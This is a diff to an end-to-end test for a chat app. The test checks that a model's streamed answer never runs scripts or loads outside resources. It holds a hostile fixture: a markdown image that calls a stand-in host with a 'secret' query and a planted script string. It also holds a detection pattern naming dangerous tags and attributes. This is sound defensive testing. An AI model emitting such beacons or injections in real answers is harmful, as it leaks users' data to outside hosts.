@@ -1,4 +1,5 @@
 /** A model's words are text: nothing of them runs, loads or leads somewhere else than it says (S4). Scripted: OpenRouter. */
+import type { Page } from '@playwright/test'
 import { expect, test } from '../setup/e2e-test.ts'
 
 const planted = 'globalThis.planted=1'
@@ -28,6 +29,39 @@ const hostileText = `Before.
 ![a picture](https://evil.test/pixel.png?secret)
 
 After.`
+
+/** Looks at each drawing of an answer: what is in the page that could run or load, and how many drawings there were. */
+async function watchDrawings(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    const drawings = { count: 0, harm: new Set<string>() }
+    Object.assign(globalThis, { drawings })
+    const look = () => {
+      const articles = document.querySelectorAll('article[aria-busy="true"]')
+      if (articles.length > 0) drawings.count += 1
+      for (const element of [...articles].flatMap(article => [...article.querySelectorAll('*')])) {
+        if (/^(?:script|img|iframe|style|base|meta|link|object|embed|form)$/.test(element.localName)) drawings.harm.add(element.localName)
+        for (const { name, value } of element.attributes) {
+          if (/^on|^(?:src|srcdoc|style)$/.test(name) || /^(?:javascript|data):/.test(value)) drawings.harm.add(`${name} ${value}`)
+        }
+      }
+    }
+    new MutationObserver(look).observe(document, { childList: true, characterData: true, attributes: true, subtree: true })
+  })
+}
+
+test('nothing in an answer runs or loads at any moment of its stream', async ({ chat, page, simulator }) => {
+  await simulator.script({ text: hostileText, tokenCharacters: 2, tokensPerSecond: 50 })
+  await watchDrawings(page)
+  await chat.open()
+  await chat.converse('Do your worst.')
+  const { count, harm } = await page.evaluate(() => {
+    const { count, harm } = Reflect.get(globalThis, 'drawings') as { count: number; harm: Set<string> }
+    return { count, harm: [...harm] }
+  })
+  expect(harm).toEqual([])
+  expect(count, 'drawings that were looked at').toBeGreaterThan(10)
+  expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false)
+})
 
 test('nothing in an answer runs or loads', async ({ chat, page, simulator }) => {
   await simulator.script({
